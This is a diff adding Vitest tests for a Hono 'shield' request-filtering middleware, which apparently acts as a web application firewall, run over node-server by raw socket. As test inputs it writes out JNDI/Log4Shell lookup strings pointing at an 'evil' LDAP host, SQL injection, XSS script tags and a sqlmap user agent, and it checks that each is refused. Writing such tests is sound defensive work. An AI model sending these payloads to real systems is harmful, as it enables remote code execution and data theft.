@@ -1,5 +1,8 @@
+import { once } from 'node:events'
+import { connect } from 'node:net'
 import { Hono, type MiddlewareHandler } from 'hono'
-import { describe, expect, it, onTestFinished, vi } from 'vitest'
+import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest'
+import { type Served, serveOnLoopback } from '../../test/node-server'
 import { type Decision, installDecisions } from '../internal/outcomes/decisions'
 import { settle } from '../internal/outcomes/settle'
 import { MemoryRateLimitStore } from '../rate-limit/memory-store'
@@ -529,5 +532,92 @@ describe('shield: an app on another copy of hono', () => {
       expect(await again('id')).toBe(200)
       expect(await again('note')).toBe(403)
     }
+  })
+})
+
+describe('shield: over @hono/node-server', () => {
+  // There the header walk reads the socket message's raw header list instead of making
+  // node-server build an undici Headers (internal/http/header-entries.ts): the same pairs, in
+  // the same order, so the same verdicts and locations.
+  let served: Served
+  const seen: { decisions: Decision[]; built: boolean[] } = { decisions: [], built: [] }
+  const decision = () => seen.decisions.find((d) => d.middleware === 'shield')
+
+  /** Whether node-server's request holds a built Headers (under one of its own symbols). */
+  function headersBuilt(raw: Request): boolean {
+    const r = raw as unknown as Record<symbol, unknown>
+    return Object.getOwnPropertySymbols(raw).some((k) => r[k] instanceof Headers)
+  }
+
+  beforeAll(async () => {
+    const app = new Hono()
+    app.use(async (c, next) => {
+      const record = installDecisions(c)
+      seen.decisions = record.decisions
+      const raw = c.req.raw
+      await next()
+      settle(record, c.error)
+      seen.built.push(headersBuilt(raw))
+    })
+    app.use('/edited/*', async (c, next) => {
+      c.req.raw.headers.set('x-added', `https://x/${JNDI}ldap://evil/a}`)
+      await next()
+    })
+    app.use(shield())
+    // Reads the body, not a header: nothing but shield could build the request's Headers.
+    app.all('*', async (c) => {
+      if (c.req.method === 'POST') return c.text(`read ${(await c.req.json()).length}`)
+      return c.text('ok')
+    })
+    served = await serveOnLoopback(app)
+  })
+  afterAll(() => served.close())
+
+  /** `head` (request line and header lines) sent as written, over a socket of its own. */
+  async function send(head: string, body = ''): Promise<number> {
+    const socket = connect(Number(new URL(served.base).port), '127.0.0.1')
+    await once(socket, 'connect')
+    const length = body === '' ? '' : `\r\ncontent-length: ${body.length}`
+    socket.end(`${head}\r\nhost: 127.0.0.1${length}\r\nconnection: close\r\n\r\n${body}`)
+    let text = ''
+    for await (const chunk of socket) text += chunk
+    return Number(text.slice(9, 12))
+  }
+
+  it('lets a clean JSON POST through without building the request’s Headers', async () => {
+    const post = 'POST /c HTTP/1.1\r\nContent-Type: application/json\r\nX-Note: hello'
+    // The first request of node-server's request class is the probe (it builds them).
+    expect(await send(post, '[1,2]')).toBe(200)
+    seen.built = []
+    for (let i = 0; i < 3; i++) expect(await send(post, '[1,2]')).toBe(200)
+    expect(decision()).toMatchObject({ outcome: 'allow' })
+    expect(seen.built).toEqual([false, false, false])
+  })
+
+  it.each([
+    ['a header', 'X-Note: hi', 'java', 'header:x-note', `X-Note: https://x/${JNDI}ldap://e/a}`],
+    ['the user agent', 'User-Agent: sqlmap/1.7', 'scanner', 'header:user-agent', ''],
+    // Copies of one name, in any case, are joined: the attack is in the second.
+    ['a repeated header', 'X-Dup: fine', 'java', 'header:x-dup', `x-DUP: \${jndi:ldap://e/a}`],
+    // Walked by name, as Headers sorts them: a-first before z-last whatever the sending order.
+    ['two headers', "Z-Last: ' OR 1=1--", 'xss', 'header:a-first', 'A-First: <script>x</script>'],
+    // The cookies after the other headers.
+    ['the cookies', 'Cookie: q=%3Cscript%3Ealert(1)', 'java', 'header:x-n', `X-N: \${jndi:x}`],
+    ['a cookie alone', 'Cookie: a=1', 'xss', 'cookie:q', 'cookie: q=%3Cscript%3E'],
+  ])('refuses an attack in %s as app.request does', async (_, one, category, location, two) => {
+    const head = ['GET /p HTTP/1.1', one, two].filter((l) => l !== '').join('\r\n')
+    for (let i = 0; i < 2; i++) {
+      expect(await send(head)).toBe(403)
+      expect(decision()).toMatchObject({ outcome: 'reject', category, location })
+    }
+  })
+
+  it('sees a header a middleware set before it (the request’s Headers are read then)', async () => {
+    expect(await send('GET /edited/x HTTP/1.1')).toBe(403)
+    expect(decision()).toMatchObject({ category: 'java', location: 'header:x-added' })
+  })
+
+  it('does not read Authorization', async () => {
+    expect(await send("GET /p HTTP/1.1\r\nAuthorization: Bearer ' OR 1=1--")).toBe(200)
   })
 })
